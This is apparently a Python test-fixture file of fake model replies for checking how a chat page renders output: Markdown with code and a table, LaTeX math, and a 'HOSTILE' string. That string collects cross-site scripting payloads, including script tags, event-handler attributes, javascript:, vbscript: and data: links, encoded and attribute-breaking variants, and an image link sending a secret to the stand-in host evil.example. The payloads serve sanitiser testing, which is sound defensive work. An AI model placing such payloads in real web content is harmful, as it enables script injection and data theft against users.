"""Replies of the fake model that test how the page renders them."""

from __future__ import annotations

RICH = """\
Here is a small program that counts words, and what it says about three books.

```python
from collections import Counter
from pathlib import Path


def words(path: Path) -> Counter[str]:
    \"\"\"How often each word is there. A line that is too long for a phone scrolls in its box, not outside of it.\"\"\"
    return Counter(path.read_text(encoding="utf-8").lower().split())
```

| Book | Author | Words | Most frequent |
|:--|:--|--:|:-:|
| Moby-Dick | Herman Melville | 209,117 | the |
| Emma | Jane Austen | 158,167 | to |
| Dracula | Bram Stoker | 160,363 | and |

## What to do next

1. Leave out **stop words** such as `the` and `and`.
2. Count *pairs* of words as well:
   - they tell more about style,
   - and they cost little.
3. Read [the manual of Counter](https://docs.python.org/3/library/collections.html#collections.Counter).

> Counting is the easy part; knowing what to count is not.
"""

SCIENCE = r"""The quadratic formula \(x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}\) solves
$ax^2 + bx + c = 0$ for every $a \neq 0$.[^1]

$$
\sum_{k=1}^{n} k^2 = \frac{n(n+1)(2n+1)}{6}, \qquad
\int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}, \qquad
\lim_{n\to\infty}\left(1+\frac1n\right)^n = e
$$

\[ A = \begin{pmatrix} a_{11} & a_{12} \\ a_{21} & a_{22} \end{pmatrix} \]

- [x] Divide by $a$
- [ ] Complete the square
  - [ ] Take the root

> שלום, זה ציטוט.

[^1]: Known to **al-Khwarizmi**, in words.
"""

HOSTILE = """\
<script>alert('script')</script><img src=x onerror="alert('onerror')">

<svg onload="alert('svg')"><animate onbegin="alert('animate')"/></svg>

<style>body { display: none }</style><iframe src="https://evil.example/frame"></iframe>

![stolen](https://evil.example/pixel.png?secret=1) ![data](data:image/svg+xml,<svg onload=alert(1)>)

[run](javascript:alert('link')) [data](data:text/html,<script>alert(1)</script>) <javascript:alert(2)>

[entities](&#106;avascript:alert(3)) [vb](vbscript:alert(4)) [here](/admin) [relative](//evil.example/x)

[fine](https://example.com/) <a href="https://evil.example" onclick="alert(5)">raw</a>

![x" onerror="alert(6)](https://evil.example/"onerror="alert(7).png "t\\" onload=\\"alert(8)")

```"><img/src=x/onerror=alert(9)>
</code></pre><script>alert(10)</script>
```

`<img src=x onerror=alert(11)>`

<math><mtext><table><mglyph><style><!--</style><img title="--><img src onerror=alert(12)>">

The end.
"""
"""Everything that would run, load, restyle or lead astray if it were taken for HTML, and a last line that is seen."""
